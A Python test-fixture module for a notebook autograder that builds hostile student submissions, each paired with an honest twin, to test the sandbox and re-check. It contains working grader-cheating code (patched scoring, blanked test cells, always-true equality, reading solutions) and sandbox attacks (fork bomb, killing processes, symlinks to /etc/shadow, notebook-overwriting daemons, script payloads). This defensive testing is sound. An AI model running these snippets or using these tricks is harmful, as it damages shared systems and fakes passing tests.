"""Hostile and broken submissions, each with an honest twin: what the sandbox and the re-check must withstand.

A :class:`Case` builds a submitted notebook of ``01_lookup`` (the first graded notebook) and its *twin*: the same
notebook without the attack (the honest version of what the student actually achieved). ``tests/test_hostile.py``
grades all of them in one run of the real pipeline and holds each case to its ``expect``:

* ``"flagged"``  — the attack gains points in the kernel; the re-check must flag it and the final score must not
  exceed the twin's;
* ``"no gain"``  — the attack fails already (the sandbox, exact type checks): score ≤ twin, grading survives;
* ``"unverified"`` — the attack stops the re-check: the tests it could not confirm count the lower score, are
  reported as *could not be verified*, and the score must not exceed the twin's;
* ``"same"``     — an odd but honest submission (renamed, reordered, split cells, outputs of 100 MB, …): it must
  score exactly what its twin scores.

The demo class includes one hostile student built from the first cases (:data:`DEMO_ATTACKS`).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode

from grader import cells
from grader.project import REPO, Assignment, graded_assignments
from grader.samples.submissions import answer_cells, fill

NOTEBOOK = "01_lookup"

ONE_HOT = '''def one_hot(ids, num_classes):
    ids = check_ids(ids, num_classes)
    return (ids[..., None] == np.arange(num_classes)).astype(np.float64)'''
WRONG_ONE_HOT = '''def one_hot(ids, num_classes):
    ids = np.asarray(ids)
    return np.zeros(ids.shape + (num_classes,))'''
STUB_ONE_HOT = '''def one_hot(ids, num_classes):
    raise NotImplementedError'''
WRONG_EMBED_LOOKUP = '''def embed_lookup(ids, E):
    return E[np.asarray(ids) % E.shape[0]]   # no validation: bad ids wrap around'''

IMPORT_REFERENCE = '''def one_hot(ids, num_classes):
    from grader.content.reference.lookup import one_hot as reference   # the grader's own answer
    return reference(ids, num_classes)'''
IMPORT_REFERENCE_CLASS = "from grader.content.reference.lookup import Embedding   # the grader's own class"
STUB_EMBEDDING = '''class Embedding(nn.Module):
    def __init__(self, num_embeddings, embedding_dim):
        super().__init__()
        raise NotImplementedError()

    def forward(self, ids):
        raise NotImplementedError()'''
WRONG_EMBEDDING = '''class Embedding(nn.Module):
    def __init__(self, num_embeddings, embedding_dim):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(num_embeddings, embedding_dim))

    def forward(self, ids):
        return self.weight[ids]   # no validation: bad ids wrap around'''
REFERENCE_CLASS_WITH_FALLBACK = '''try:   # the grader's own class where it exists, a class of one's own elsewhere
    from grader.content.reference.lookup import Embedding
except ImportError:
''' + "\n".join("    " + line if line else "" for line in WRONG_EMBEDDING.splitlines())
PATCH_MODULE_CHECKS = WRONG_EMBEDDING + '''


try:  # the hidden tests' checks of a module always pass
    import grader.content.hidden.lookup as _hidden
    _hidden.expect_raises = _hidden.expect_tensor = _hidden.expect = lambda *args, **kwargs: None
except ImportError:
    pass'''
REWRITE_TESTS = WRONG_ONE_HOT + '''


def _blank_the_tests(lines):
    """An IPython input transformer: every test cell becomes `pass`."""
    text = "".join(lines)
    return ["pass\\n"] if ("grade_" in text or "assert" in text) else lines


try:
    get_ipython().input_transformers_cleanup.append(_blank_the_tests)
except NameError:
    pass'''
PATCH_SCORE = WRONG_EMBED_LOOKUP + '''


try:  # make every hidden test report full marks
    import grader.content.hidden.lookup as _hidden
    _hidden.score = lambda title, properties, points: points
except ImportError:
    pass'''
EQ_ALWAYS_TRUE = '''class _Yes(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.broadcast(self, other).shape, dtype=bool)


def one_hot(ids, num_classes):
    ids = np.asarray(ids)
    return np.zeros(ids.shape + (num_classes,)).view(_Yes)'''
HIDE_TRACEBACKS = STUB_ONE_HOT + '''


try:
    get_ipython().showtraceback = lambda *args, **kwargs: None   # errors vanish (nbgrader#1324)
except NameError:
    pass'''
READ_SOLUTIONS = f'''def one_hot(ids, num_classes):
    import json
    try:
        nb = json.load(open({str(REPO / "solutions" / NOTEBOOK / (NOTEBOOK + ".ipynb"))!r}))
    except OSError:
        raise NotImplementedError
    source = next("".join(c["source"]) for c in nb["cells"] if "def one_hot" in "".join(c["source"]))
    namespace = {{"np": np, "check_ids": check_ids}}
    exec(source, namespace)
    return namespace["one_hot"](ids, num_classes)'''
NETWORK = ONE_HOT + '''


import urllib.request
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=3).read()
    REACHED_THE_NETWORK = True
except Exception:
    REACHED_THE_NETWORK = False'''
SIGNAL_OTHERS = ONE_HOT + '''


import os
import signal
mine = {int(tid) for tid in os.listdir("/proc/self/task")}   # our own threads: killing one kills us
for pid in range(1, 400):
    if pid in mine:
        continue
    try:
        os.kill(pid, signal.SIGKILL)   # the zygote, the grader, other students' kernels
    except (OSError, ProcessLookupError):
        pass'''
SYS_EXIT = ONE_HOT + '''


import sys
sys.exit("done here")'''
OS_EXIT = ONE_HOT + '''


import os
if os.environ.get("NBGRADER_EXECUTION"):
    os._exit(3)'''
SWALLOW_INTERRUPT = ONE_HOT + '''


import os
import time
while os.environ.get("NBGRADER_EXECUTION"):
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass'''
FORK_BOMB = ONE_HOT + '''


import os
if os.environ.get("NBGRADER_EXECUTION"):
    while True:
        try:
            os.fork()
        except OSError:
            pass'''
MEMORY_HOG = ONE_HOT + '''


import os
if os.environ.get("NBGRADER_EXECUTION"):
    hog = np.ones(2**32, dtype=np.float64)   # 32 GB'''
HUGE_PRINT = ONE_HOT + '''


print("x" * 30_000_000)  # 300 times the cap; more only tests the machine's speed against the cell timeout'''
WRITE_PARENT = ONE_HOT + '''


for path in ("../escape.txt", "../../escape.txt", "/tmp/escape.txt"):
    try:
        with open(path, "w") as file:
            file.write("written by a student")
    except OSError:
        pass'''


LEAK_THROUGH_LINKS = ONE_HOT + f'''


import os
# Links the grader's own side would follow if it touched the kernel's folder: root-only files, the instructor's
# solution, an endless file, the grader's control sockets; in the working folder and wherever else it can write.
TARGETS = {{"shadow.html": "/etc/shadow",
           "solution.html": {str(REPO / "solutions" / NOTEBOOK / (NOTEBOOK + ".ipynb"))!r}, "zero.txt": "/dev/zero",
           "zygote.sock": "../../control/kernel.sock", "01_lookup.ipynb.html": "/etc/passwd"}}
for folder in (".", "..", "../..", "/tmp"):
    for name, target in TARGETS.items():
        try:
            os.symlink(target, os.path.join(folder, name))
        except OSError:
            pass'''
OUTLIVE_THE_KERNEL = ONE_HOT + '''


import os
import time
if os.environ.get("NBGRADER_EXECUTION") and os.fork() == 0:   # a process of its own, meant to outlive the kernel
    os.setsid()
    if os.fork() == 0:
        deadline = time.time() + 600
        while time.time() < deadline:   # rewrites every notebook it can reach, again and again
            for top in (os.path.expanduser("~"), "..", "../..", "/tmp"):
                for folder, _, files in os.walk(top):
                    for name in files:
                        if name.endswith(".ipynb"):
                            try:
                                with open(os.path.join(folder, name), "w") as file:
                                    file.write("{}")
                            except OSError:
                                pass
            time.sleep(0.05)
    os._exit(0)'''
POISON_THE_NEXT = ONE_HOT + '''


import os
# Folders and links where a later student's kernel or re-check might look for its files.
for folder in (".", "..", "../..", "/tmp"):
    for name in ("kernel-1", "kernel-2", "kernel-3", "home", "calls.sock", "runtime", "work", "kernel.json"):
        try:
            os.makedirs(os.path.join(folder, name, "x"), exist_ok=True)
        except OSError:
            try:
                os.symlink("/nonexistent", os.path.join(folder, name))
            except OSError:
                pass'''
SWAP_KERNEL_SOCKETS = '''import glob
import os
import sys
if os.environ.get("NBGRADER_EXECUTION") and "subject" not in sys.modules:
    here = os.path.dirname(os.getcwd())   # the folder of this kernel's sockets
    worker = os.path.dirname(os.path.dirname(here))
    for path in sorted(glob.glob(os.path.join(here, "kernel-*"))):
        os.unlink(path)   # the grader's side reconnects by path after a kernel dies: point it at its own zygote
        os.symlink(os.path.join(worker, "control", "kernel.sock"), path)
    os._exit(3)'''
IN_THE_RECHECK = '''import sys
IN_THE_RECHECK = "subject" in sys.modules   # the grader's second look, outside the kernel
'''
CRASH_THE_RECHECK = IN_THE_RECHECK + ONE_HOT.replace("    ids = check_ids", '''    if IN_THE_RECHECK:
        import os
        os._exit(0)   # the re-check process vanishes at the first call
    ids = check_ids''', 1)
HANG_THE_RECHECK = IN_THE_RECHECK + ONE_HOT.replace("    ids = check_ids", '''    if IN_THE_RECHECK:
        import signal
        import time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)   # no alarm can stop it
        while True:
            time.sleep(1)
    ids = check_ids''', 1)
FAKE_THE_RECHECK = IN_THE_RECHECK + WRONG_ONE_HOT + '''


if IN_THE_RECHECK:   # the re-check server lives in this process: make it say whatever helps
    server = sys.modules["subject"]
    server.run_test = lambda *args, **kwargs: ""
    server.Server.probe = lambda self, name: {"defined": True, "kind": "callable"}'''
ZERO_THE_INPUT = '''def check_ids(ids, num_embeddings):
    ids = np.asarray(ids)
    ids[...] = 0   # the input zeroed in place: a test that computes its expected value afterwards agrees
    return ids'''
ZEROS_CHECK_IDS = '''def check_ids(ids, num_embeddings):
    return np.zeros(np.shape(ids), dtype=np.int64)'''
READ_THE_HIDDEN_TESTS = ONE_HOT + '''


import importlib.util
import pathlib
spec = importlib.util.find_spec("grader")
for folder in ([pathlib.Path(p) for p in spec.submodule_search_locations] if spec else []):
    for path in folder.rglob("*.py"):
        try:
            print(path.read_text())   # printed, it would be in this student's feedback page
        except OSError:
            pass'''
TIME_MAGIC = "%%time\n" + ONE_HOT
LATE_DTYPE_CHANGE = "torch.set_default_dtype(torch.float64)   # a scratch cell at the very end"
SCRIPT_IN_OUTPUT = ONE_HOT + '''


from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>document.title = 'PWNED';</script><img src=x onerror=\\"document.title='PWNED'\\">"))
display(Javascript("document.title = 'PWNED';"))
display(Markdown("<script>document.title = 'PWNED';</script> **bold**"))'''


@dataclass(frozen=True)
class Case:
    """A submission of 01_lookup (``make``) and its honest twin (``twin``), both as notebook bytes."""

    name: str
    what: str
    expect: str                                   # "flagged", "unverified", "no gain" or "same"
    make: Callable[[], bytes]
    twin: Callable[[], bytes]
    tags: tuple[str, ...] = field(default=())


def _assignment() -> Assignment:
    return next(a for a in graded_assignments() if NOTEBOOK in a.notebooks)


def solution(replace: dict[str, str] | None = None) -> NotebookNode:
    return fill(_assignment(), NOTEBOOK, replace or {})


def _bytes(nb: NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def _with(replace: dict[str, str]) -> Callable[[], bytes]:
    return lambda: _bytes(solution(replace))


def _transformed(change: Callable[[NotebookNode], NotebookNode | bytes]) -> Callable[[], bytes]:
    def make() -> bytes:
        out = change(solution())
        return out if isinstance(out, bytes) else _bytes(out)
    return make


# ------------------------------------------------------------------------------------------------ odd formats


def _strip_nbgrader_metadata(nb: NotebookNode) -> NotebookNode:
    """What Colab and some editors do: every cell loses nbgrader's metadata (and its ids)."""
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def _delete_test_cells(nb: NotebookNode) -> NotebookNode:
    nb.cells = [c for c in nb.cells if not cells.is_test_cell(c)]
    return nb


def _duplicate_answer_cell(nb: NotebookNode) -> NotebookNode:
    cell = answer_cells(nb)["one_hot"]
    nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))
    return nb


def _split_answer_cell(nb: NotebookNode) -> NotebookNode:
    """The student moved a helper into a new cell of its own, under the answer cell."""
    cell = answer_cells(nb)["one_hot"]
    cell.source = ("def _onehot_rows(ids, num_classes):\n"
                   "    return (ids[..., None] == np.arange(num_classes)).astype(np.float64)\n\n\n"
                   "def one_hot(ids, num_classes):\n    return _onehot_rows(check_ids(ids, num_classes), num_classes)")
    helper = nbformat.v4.new_code_cell("_onehot_rows = _onehot_rows  # kept in a cell of its own")
    nb.cells.insert(nb.cells.index(cell) + 1, helper)
    return nb


def _reorder_markdown(nb: NotebookNode) -> NotebookNode:
    """Two explanatory Markdown cells swapped and a scratch cell added: nothing graded moves."""
    plain = [i for i, c in enumerate(nb.cells) if c.cell_type == "markdown" and "nbgrader" not in c.metadata]
    i, j = plain[1], plain[2]
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    nb.cells.append(nbformat.v4.new_code_cell("scratch = 1 + 1"))
    return nb


def _edit_test_cells(nb: NotebookNode) -> NotebookNode:
    """The student 'fixed' the visible tests so they pass whatever one_hot does."""
    for cell in nb.cells:
        if (cells.grade_id(cell) or "").endswith("_visible"):
            cell.source = "pass"
    answer_cells(nb)["one_hot"].source = WRONG_ONE_HOT
    return nb


def _old_nbformat(nb: NotebookNode) -> bytes:
    """Saved as nbformat 3 (an old Jupyter)."""
    return nbformat.writes(nbformat.convert(nb, 3), version=3).encode()


def _huge_outputs(nb: NotebookNode) -> NotebookNode:
    """Handed in with 100 MB of output in one cell."""
    cell = answer_cells(nb)["one_hot"]
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * 100_000_000)]
    return nb


def _late_scratch_cell(nb: NotebookNode) -> NotebookNode:
    """An honest notebook with a scratch cell at the very end that changes torch's default dtype: the kernel ran
    every test before it."""
    nb.cells.append(nbformat.v4.new_code_cell(LATE_DTYPE_CHANGE))
    return nb


def _script_in_markdown(nb: NotebookNode) -> NotebookNode:
    """Markdown the student wrote, with a script and an event handler in it."""
    nb = _bytes_to_nb(_with({"one_hot": SCRIPT_IN_OUTPUT})())
    nb.cells.append(nbformat.v4.new_markdown_cell(
        "My notes <script>document.title = 'PWNED';</script><img src=x onerror=\"document.title='PWNED'\">"))
    return nb


def _bytes_to_nb(data: bytes) -> NotebookNode:
    return nbformat.reads(data.decode(), as_version=4)


def _pasted_grade_cell(nb: NotebookNode) -> NotebookNode:
    """A test cell of another notebook pasted in, with its nbgrader metadata (a grade id this notebook lacks)."""
    other = next(c for a in graded_assignments() if NOTEBOOK not in a.notebooks
                 for c in nbformat.read(str(a.source_dir / f"{a.notebooks[0]}.ipynb"), as_version=4).cells
                 if cells.is_test_cell(c))
    pasted = copy.deepcopy(other)
    pasted.source = "pass  # pasted from another notebook"
    nb.cells.append(pasted)
    return nb


def _huge_source(nb: NotebookNode) -> NotebookNode:
    """6 MB of code pasted into a cell."""
    nb.cells.append(nbformat.v4.new_code_cell("# " + "x" * 6_000_000))
    return nb


def _slow_cells(nb: NotebookNode) -> NotebookNode:
    """Three cells of 6 s each before the tests: each within the per-cell limit, together over it."""
    first_test = next(i for i, c in enumerate(nb.cells) if cells.is_test_cell(c))
    for k in range(3):
        nb.cells.insert(first_test, nbformat.v4.new_code_cell(f"import time\ntime.sleep(6)   # a slow experiment {k}"))
    return nb


def _swap_sockets_at_the_end(nb: NotebookNode) -> NotebookNode:
    nb.cells.append(nbformat.v4.new_code_cell(SWAP_KERNEL_SOCKETS))
    return nb


def _not_json(_: NotebookNode) -> bytes:
    return b'{"cells": [ this is not JSON'


def _not_a_notebook(_: NotebookNode) -> bytes:
    return json.dumps({"hello": "world"}).encode()


CASES: tuple[Case, ...] = (
    # Integrity. The kernel holds no grader code (hidden tests and references run only on the grader's side), so
    # importing or patching it gains nothing anywhere; what gains in the kernel is caught outside it.
    Case("import-reference", "one_hot calls the grader's reference implementation", "no gain",
         _with({"one_hot": IMPORT_REFERENCE}), _with({"one_hot": STUB_ONE_HOT})),
    Case("rewrite-test-cells", "an IPython input transformer turns every test cell into `pass`", "flagged",
         _with({"one_hot": REWRITE_TESTS}), _with({"one_hot": WRONG_ONE_HOT})),
    Case("import-reference-class", "Embedding is the grader's reference class, imported", "no gain",
         _with({"embedding_module": IMPORT_REFERENCE_CLASS}), _with({"embedding_module": STUB_EMBEDDING})),
    Case("reference-class-fallback", "Embedding is the grader's class where it can be imported, a wrong one elsewhere",
         "no gain", _with({"embedding_module": REFERENCE_CLASS_WITH_FALLBACK}),
         _with({"embedding_module": WRONG_EMBEDDING})),
    Case("patch-module-checks", "a wrong Embedding, and the hidden tests' tensor checks patched to always pass",
         "no gain", _with({"embedding_module": PATCH_MODULE_CHECKS}), _with({"embedding_module": WRONG_EMBEDDING})),
    Case("patch-the-checker", "monkeypatches the hidden tests' scoring to always give full marks", "no gain",
         _with({"embed_lookup": PATCH_SCORE}), _with({"embed_lookup": WRONG_EMBED_LOOKUP})),
    Case("eq-always-true", "returns an ndarray subclass whose == is always True", "flagged",
         _with({"one_hot": EQ_ALWAYS_TRUE}), _with({"one_hot": WRONG_ONE_HOT})),
    Case("read-the-hidden-tests", "prints every file of the grader package it can find", "same",
         _with({"one_hot": READ_THE_HIDDEN_TESTS}), _with({}), tags=("leak",)),
    Case("zero-the-input", "check_ids zeroes its input in place and returns it", "no gain",
         _with({"check_ids": ZERO_THE_INPUT}), _with({"check_ids": ZEROS_CHECK_IDS})),
    # The re-check fails closed: whatever stops it costs the points it could not confirm.
    Case("crash-the-recheck", "one_hot ends its process when called outside the kernel", "unverified",
         _with({"one_hot": CRASH_THE_RECHECK}), _with({"one_hot": STUB_ONE_HOT})),
    Case("hang-the-recheck", "one_hot ignores the alarm and sleeps forever outside the kernel", "unverified",
         _with({"one_hot": HANG_THE_RECHECK}), _with({"one_hot": STUB_ONE_HOT})),
    Case("fake-the-recheck", "patches the re-check server in its own process to report passing tests", "no gain",
         _with({"one_hot": FAKE_THE_RECHECK}), _with({"one_hot": WRONG_ONE_HOT})),
    # The sandbox boundary: nothing the student leaves behind is followed, survives, or reaches the next student.
    Case("leak-through-links", "leaves links to root-only files, the solution and /dev/zero where it can write",
         "same", _with({"one_hot": LEAK_THROUGH_LINKS}), _with({}), tags=("leak",)),
    Case("outlive-the-kernel", "leaves a process that rewrites every notebook it can reach", "same",
         _with({"one_hot": OUTLIVE_THE_KERNEL}), _with({})),
    Case("poison-the-next", "leaves folders and links where the next student's files would go", "same",
         _with({"one_hot": POISON_THE_NEXT}), _with({})),
    Case("swap-kernel-sockets", "replaces its kernel's sockets with links to the zygote's, then kills the kernel",
         "same", _transformed(_swap_sockets_at_the_end), _with({})),
    Case("script-in-output", "its outputs and Markdown carry scripts and event handlers", "same",
         _transformed(_script_in_markdown), _with({}), tags=("script",)),
    # Honest twins of what used to be flagged: the re-check replays the notebook as the kernel does.
    Case("time-magic", "the one_hot answer cell starts with %%time", "same", _with({"one_hot": TIME_MAGIC}),
         _with({})),
    Case("late-dtype-change", "a scratch cell at the end changes torch's default dtype", "same",
         _transformed(_late_scratch_cell), _with({})),
    Case("slow-cells", "three 6 s cells: each within the per-cell limit, together over it", "same",
         _transformed(_slow_cells), _with({})),
    Case("pasted-grade-cell", "a test cell of another notebook pasted in, metadata and all", "same",
         _transformed(_pasted_grade_cell), _with({}), tags=("format",)),
    Case("hide-tracebacks", "replaces IPython's showtraceback so errors print nothing", "no gain",
         _with({"one_hot": HIDE_TRACEBACKS}), _with({"one_hot": STUB_ONE_HOT})),
    Case("read-solutions", "reads the instructor's notebook in solutions/ and runs its answer", "no gain",
         _with({"one_hot": READ_SOLUTIONS}), _with({"one_hot": STUB_ONE_HOT})),
    Case("network", "downloads from the internet while graded", "same",
         _with({"one_hot": NETWORK}), _with({})),
    Case("kill-other-processes", "SIGKILLs every pid it can reach", "same",
         _with({"one_hot": SIGNAL_OTHERS}), _with({})),
    # Robustness: the grader survives, the student keeps what they earned.
    Case("sys-exit", "calls sys.exit() after defining one_hot", "same", _with({"one_hot": SYS_EXIT}), _with({})),
    Case("os-exit", "kills its kernel with os._exit() in the one_hot cell", "no gain",
         _with({"one_hot": OS_EXIT}), _with({"one_hot": STUB_ONE_HOT}), tags=("crash",)),
    Case("swallow-interrupt", "loops forever, swallowing KeyboardInterrupt", "no gain",
         _with({"one_hot": SWALLOW_INTERRUPT}), _with({"one_hot": STUB_ONE_HOT}), tags=("crash",)),
    Case("fork-bomb", "forks until the process limit, forever", "no gain",
         _with({"one_hot": FORK_BOMB}), _with({"one_hot": STUB_ONE_HOT}), tags=("crash",)),
    Case("memory-hog", "allocates 32 GB", "same", _with({"one_hot": MEMORY_HOG}), _with({})),
    Case("huge-print", "prints 30 MB while graded", "same", _with({"one_hot": HUGE_PRINT}), _with({})),
    Case("write-outside", "writes files into ../, ../../ and /tmp", "same", _with({"one_hot": WRITE_PARENT}),
         _with({})),
    # Odd but honest formats.
    Case("metadata-stripped", "every cell lost nbgrader's metadata (Colab, VS Code)", "same",
         _transformed(_strip_nbgrader_metadata), _with({}), tags=("format",)),
    Case("test-cells-deleted", "deleted every test cell", "same", _transformed(_delete_test_cells), _with({}),
         tags=("format",)),
    Case("answer-duplicated", "the one_hot answer cell appears twice", "same",
         _transformed(_duplicate_answer_cell), _with({}), tags=("format",)),
    Case("answer-split", "part of the one_hot answer moved into a new cell", "same",
         _transformed(_split_answer_cell), _with({}), tags=("format",)),
    Case("cells-reordered", "explanatory cells swapped, a scratch cell added", "same",
         _transformed(_reorder_markdown), _with({}), tags=("format",)),
    Case("test-cells-edited", "visible test cells replaced by `pass`, one_hot wrong", "same",
         _transformed(_edit_test_cells), _with({"one_hot": WRONG_ONE_HOT}), tags=("format",)),
    Case("nbformat-3", "saved in the old nbformat 3", "same", _transformed(_old_nbformat), _with({}),
         tags=("format",)),
    Case("outputs-100mb", "handed in with 100 MB of output", "same", _transformed(_huge_outputs), _with({}),
         tags=("format",)),
)
# Not gradable at all: reported per student, nothing else lost.
UNREADABLE: dict[str, Callable[[], bytes]] = {
    "invalid-json": _transformed(_not_json),
    "not-a-notebook": _transformed(_not_a_notebook),
    "six-mb-of-source": _transformed(_huge_source),
}
# What gains in the kernel, for the demo's cheating student: the test cells rewritten into `pass` (caught by the
# re-check, which runs them outside), and the hidden tests' scoring patched (which gains nothing: there is none).
DEMO_ATTACKS = {"one_hot": REWRITE_TESTS, "embed_lookup": PATCH_SCORE}
